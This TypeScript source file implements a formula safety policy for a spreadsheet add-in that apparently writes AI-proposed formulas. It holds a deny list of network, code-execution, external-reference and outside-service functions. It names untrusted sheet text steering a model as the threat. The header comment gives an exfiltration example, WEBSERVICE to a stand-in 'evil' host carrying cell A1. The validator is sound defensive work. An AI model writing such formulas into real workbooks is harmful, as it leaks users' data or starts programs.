// The one decision on whether a formula may be written into the user's workbook, made over the
// tokens of tokenize-formula.ts. A formula must stay inside the workbook: spreadsheet text is
// untrusted and can steer a model, and one formula that calls out can leak every cell
// (WEBSERVICE("https://evil/?d="&A1)), start programs (DDE, CALL), or tie the workbook to files
// the user never chose. Used by the server for proposals and for the analysis engine's own
// suggestions, by the add-in right before it writes, and by the playground — so all of them
// refuse the same formulas for the same named reasons.
//
// Rules, by what a formula would do:
// - network: fetch from or send to a web address (WEBSERVICE, FILTERXML, IMAGE, IMPORT…,
//   HYPERLINK to anything but a literal "#place" in this workbook);
// - code_execution: run code outside the formula engine (CALL, REGISTER, EXEC, RTD, DDE links,
//   the Excel 4 macro functions);
// - external_reference: reach another workbook or file ([Book2]Sheet1!A1, Book2.xlsx!Name,
//   'C:\dir\[x.xlsx]S'!A1, and paths, shares and URLs written in text);
// - outside_service: send cells to an outside service (STOCKHISTORY, TRANSLATE, PY, COPILOT…);
// - too_long: over Excel's 8,192 characters;
// - unreadable: not something Excel could read, so nothing can be said about it — fail closed.
// A function passed by name (MAP(A1:A3,WEBSERVICE), LET(f,WEBSERVICE,f(A1))) counts as a call.
import { tokenizeFormula, type FormulaToken, type ReferencePrefix } from "./tokenize-formula";

export type FormulaRule = "network" | "code_execution" | "external_reference" | "outside_service" | "too_long" | "unreadable";

/** Excel's own limit on the length of a formula. */
const MAX_FORMULA_LENGTH = 8_192;

/** Why each rule exists, in the words a refusal shows. */
const FORMULA_RULES: Record<FormulaRule, string> = {
  network: "formulas may not reach the network, where a request can carry the sheet's data out",
  code_execution: "formulas may not start programs, load libraries or run macros",
  external_reference: "formulas may not reach other workbooks, files or web addresses the user never chose to link",
  outside_service: "formulas may not send the sheet's data to outside services",
  too_long: `Excel does not accept formulas over ${MAX_FORMULA_LENGTH.toLocaleString("en-US")} characters`,
  unreadable: "a formula that cannot be read cannot be shown to be safe",
};

export interface FormulaViolation {
  rule: FormulaRule;
  /** What in this formula breaks the rule, e.g. "calls WEBSERVICE". */
  detail: string;
}

interface DeniedFunction {
  rule: FormulaRule;
  /**
   * Also refused when named without a call (passed to MAP, bound by LET). Off only for Excel 4
   * macro commands that are common words (OPEN, FILES…): they cannot run in a cell, and a
   * workbook may well have a defined name spelled like them.
   */
  byName: boolean;
}

const fn = (rule: FormulaRule, byName = true): DeniedFunction => ({ rule, byName });

/** Functions by what they do, names upper case without the _xlfn./_xlws. prefixes Excel stores. */
const DENIED_FUNCTIONS: Record<string, DeniedFunction> = {
  // Reaching the network. FILTERXML only parses text, but it is how WEBSERVICE results are read
  // and its XML can point at outside resources; TEXTSPLIT splits text without either.
  WEBSERVICE: fn("network"),
  FILTERXML: fn("network"),
  IMAGE: fn("network"),
  IMPORTXML: fn("network"),
  IMPORTDATA: fn("network"),
  IMPORTHTML: fn("network"),
  IMPORTFEED: fn("network"),
  IMPORTRANGE: fn("network"),
  // Running code: native calls, real-time data servers, DDE, and the Excel 4 macro functions
  // that run, evaluate, send keys or touch files.
  CALL: fn("code_execution"),
  REGISTER: fn("code_execution"),
  "REGISTER.ID": fn("code_execution"),
  UNREGISTER: fn("code_execution"),
  EXEC: fn("code_execution"),
  EXECUTE: fn("code_execution"),
  EVALUATE: fn("code_execution"),
  RTD: fn("code_execution"),
  DDE: fn("code_execution"),
  DDEAUTO: fn("code_execution"),
  RUN: fn("code_execution", false),
  INITIATE: fn("code_execution", false),
  POKE: fn("code_execution", false),
  REQUEST: fn("code_execution", false),
  TERMINATE: fn("code_execution", false),
  "SEND.KEYS": fn("code_execution"),
  "APP.ACTIVATE": fn("code_execution"),
  "ON.TIME": fn("code_execution"),
  "SET.NAME": fn("code_execution"),
  "SET.VALUE": fn("code_execution"),
  "GET.WORKSPACE": fn("code_execution"),
  "GET.DOCUMENT": fn("code_execution"),
  "GET.WORKBOOK": fn("code_execution"),
  "GET.CELL": fn("code_execution"),
  FOPEN: fn("code_execution"),
  FWRITE: fn("code_execution"),
  FWRITELN: fn("code_execution"),
  FREAD: fn("code_execution"),
  FREADLN: fn("code_execution"),
  FCLOSE: fn("code_execution"),
  "FILE.DELETE": fn("code_execution"),
  "SAVE.AS": fn("code_execution"),
  FILES: fn("code_execution", false),
  DIRECTORY: fn("code_execution", false),
  OPEN: fn("code_execution", false),
  HALT: fn("code_execution", false),
  // Sending cells to outside services.
  STOCKHISTORY: fn("outside_service"),
  TRANSLATE: fn("outside_service"),
  DETECTLANGUAGE: fn("outside_service"),
  PY: fn("outside_service"),
  COPILOT: fn("outside_service"),
  GOOGLEFINANCE: fn("outside_service"),
  GOOGLETRANSLATE: fn("outside_service"),
  "LABS.GENERATIVEAI": fn("outside_service"),
  "SQL.REQUEST": fn("outside_service"),
};

/** File types a reference or a text can name (workbooks, data files, web queries and pages). */
const FILE_EXTENSION = /\.(?:xl[a-z]{0,2}|csv|tsv|txt|prn|ods|odc|xml|json|html?|mht(?:ml)?|dbf|slk|dif|iqy|dqy|oqy|rqy|accdb|mdb)$/i;
const BRACKETED_WORKBOOK = /\[[^\]]*\]/;

/** Upper case, compatibility forms folded (ＷＥＢＳＥＲＶＩＣＥ), invisible characters and Excel's storage prefixes removed. */
export function functionKey(name: string): string {
  let key = /^[\x20-\x7e]*$/.test(name) ? name.toUpperCase() : name.normalize("NFKC").replace(/\p{Cf}/gu, "").toUpperCase();
  // _xlfn. (newer functions), _xlws. (worksheet-only), _xleta. (a function passed by name),
  // _xlpm. (LAMBDA parameters), _xludf. (user-defined), in any combination.
  while (key.startsWith("_XL") && /^_XL[A-Z]*\./.test(key)) key = key.replace(/^_XL[A-Z]*\./, "");
  return key;
}

function clip(text: string, max = 48): string {
  return text.length > max ? `${text.slice(0, max - 1)}…` : text;
}

/** Why a prefix (before `!`) points outside this workbook, or null when it names a sheet here. */
function outsidePrefix(prefix: ReferencePrefix): FormulaViolation | null {
  const shown = prefix.quoted ? `'${prefix.text.replace(/'/g, "''")}'!` : `${prefix.text}!`;
  const text = prefix.text;
  // Sheet names cannot hold \ or /: with one, the prefix is a path, a share or a URL.
  if (/[\\/]/.test(text)) {
    return { rule: "external_reference", detail: `refers to a file or web location (${clip(shown)})` };
  }
  if (BRACKETED_WORKBOOK.test(text)) return { rule: "external_reference", detail: `refers to another workbook (${clip(shown)})` };
  // Book2.xlsx!Name; a 3D span (Sheet1:Sheet3) is checked at its ends.
  if (text.split(":").some((part) => FILE_EXTENSION.test(part.trim()))) {
    return { rule: "external_reference", detail: `refers to another workbook (${clip(shown)})` };
  }
  return null;
}

/** Web addresses, file paths, shares and bracketed workbook names written as text. */
function outsideText(value: string): FormulaViolation | null {
  const url = /[a-z][a-z0-9+.-]*:\/\/[^\s"]*/i.exec(value) ?? /\bwww\.[a-z0-9-]+\.[a-z0-9.-]+[^\s"]*/i.exec(value);
  if (url) return { rule: "external_reference", detail: `contains the web address "${clip(url[0], 40)}" in a text` };
  const share = /\\\\[^\\\s"]+\\[^\s"]*/.exec(value);
  if (share) return { rule: "external_reference", detail: `contains the network path "${clip(share[0], 40)}" in a text` };
  const path = /(?:^|[^a-z0-9])([a-z]:[\\/][^"]*)/i.exec(value);
  if (path) return { rule: "external_reference", detail: `contains the file path "${clip(path[1], 40)}" in a text` };
  // A reference as INDIRECT would read it: [Book2.xlsx]…, [Book2]Sheet1!…, '[Budget]Q1 Data'!…
  // ("[Note] Check the totals!" is prose: a space after the bracket, no quotes).
  const named = [...value.matchAll(/\[[^\]]*\]/g)].find((m) => FILE_EXTENSION.test(m[0].slice(1, -1)));
  if (named) {
    return { rule: "external_reference", detail: `names another workbook ("${clip(named[0], 40)}") in a text` };
  }
  const reference = /\[[^\]\s]+\][^!\s"]*!|'[^']*\[[^\]]+\][^']*'!/.exec(value);
  if (reference) return { rule: "external_reference", detail: `names another workbook ("${clip(reference[0], 40)}") in a text` };
  return null;
}

/** The tokens of the first argument of the call at `index`, up to its `,`/`;` or `)`. */
function firstArgument(tokens: FormulaToken[], index: number): { tokens: FormulaToken[]; closed: boolean } {
  const out: FormulaToken[] = [];
  let depth = 0;
  for (let j = index + 1; j < tokens.length; j++) {
    const t = tokens[j];
    if (depth === 0 && (t.kind === "close" || t.kind === "separator")) return { tokens: out, closed: true };
    if (t.kind === "call" || t.kind === "open" || t.kind === "array-open") depth++;
    else if (t.kind === "close" || t.kind === "array-close") depth--;
    out.push(t);
  }
  return { tokens: out, closed: false };
}

/**
 * HYPERLINK is allowed only to jump inside this workbook: its target a literal "#Sheet2!A1",
 * "#'My Sheet'!A1" or "#Name", itself a reference that passes this policy.
 */
function hyperlinkTarget(tokens: FormulaToken[], index: number): FormulaViolation[] {
  const target = firstArgument(tokens, index);
  const only = target.tokens.length === 1 ? target.tokens[0] : null;
  if (!target.closed || only?.kind !== "string" || !only.value.startsWith("#")) {
    return [{ rule: "network", detail: 'calls HYPERLINK with a target other than a "#place" in this workbook written as text' }];
  }
  const location = only.value.slice(1);
  if (location.trim() === "") return [];
  const inner = checkFormula(`=${location}`);
  return inner.map((v) => ({ rule: v.rule === "unreadable" ? "network" : v.rule, detail: `calls HYPERLINK with the target "${clip(only.value, 40)}", which ${v.detail}` }));
}

function checkFunction(name: string, tokens: FormulaToken[], index: number, called: boolean): FormulaViolation[] {
  const key = functionKey(name);
  if (key === "HYPERLINK") {
    return called ? hyperlinkTarget(tokens, index) : [{ rule: "network", detail: "passes HYPERLINK by name, which can open any address" }];
  }
  const denied = DENIED_FUNCTIONS[key];
  if (!denied) return [];
  if (called) return [{ rule: denied.rule, detail: `calls ${key}` }];
  return denied.byName ? [{ rule: denied.rule, detail: `passes ${key} by name (a function used as a value can still be called)` }] : [];
}

/** Everything in `formula` that breaks a rule; empty when it may be written. */
export function checkFormula(formula: string): FormulaViolation[] {
  if (formula.length > MAX_FORMULA_LENGTH) {
    return [{ rule: "too_long", detail: `is ${formula.length.toLocaleString("en-US")} characters long` }];
  }
  const { tokens, error } = tokenizeFormula(formula);
  const found: FormulaViolation[] = [];
  const add = (v: FormulaViolation | null) => {
    if (v && !found.some((f) => f.rule === v.rule && f.detail === v.detail)) found.push(v);
  };
  tokens.forEach((token, index) => {
    switch (token.kind) {
      case "call":
        if (token.prefix) add(outsidePrefix(token.prefix));
        checkFunction(token.name, tokens, index, true).forEach(add);
        break;
      case "name":
        if (token.prefix) add(outsidePrefix(token.prefix));
        checkFunction(token.text, tokens, index, false).forEach(add);
        break;
      case "structured":
        if (token.prefix) add(outsidePrefix(token.prefix));
        // [Book2.xlsx] on its own is a workbook, not a column.
        if (!token.table && FILE_EXTENSION.test(token.selector.slice(1, -1))) add({ rule: "external_reference", detail: `refers to another workbook (${clip(token.selector)})` });
        break;
      case "error":
        if (token.prefix) add(outsidePrefix(token.prefix));
        break;
      case "bracketed":
        add({ rule: "external_reference", detail: `refers to another workbook (${clip(token.text)})` });
        break;
      case "string":
        add(outsideText(token.value));
        break;
      case "dde":
        add({ rule: "code_execution", detail: "contains a DDE link (app|topic!item), which can start programs" });
        break;
      default:
        break;
    }
  });
  if (error) add({ rule: "unreadable", detail: `cannot be read: ${error.message} (character ${error.at + 1})` });
  return found;
}

/** Whether `formula` may be written. */
export function isFormulaAllowed(formula: string): boolean {
  return checkFormula(formula).length === 0;
}

/**
 * A value Excel would read as a formula: text starting with `=`, `+`, `-` or `@` once leading
 * spaces are trimmed. Such "values" are checked as formulas.
 */
export function readsAsFormula(value: unknown): value is string {
  return typeof value === "string" && /^[=+\-@]/.test(value.trimStart());
}

/** One violation as a refusal reads it: what, then the rule by name and why it exists. */
export function describeViolation(violation: FormulaViolation): string {
  return `${violation.detail} (rule "${violation.rule}": ${FORMULA_RULES[violation.rule]})`;
}
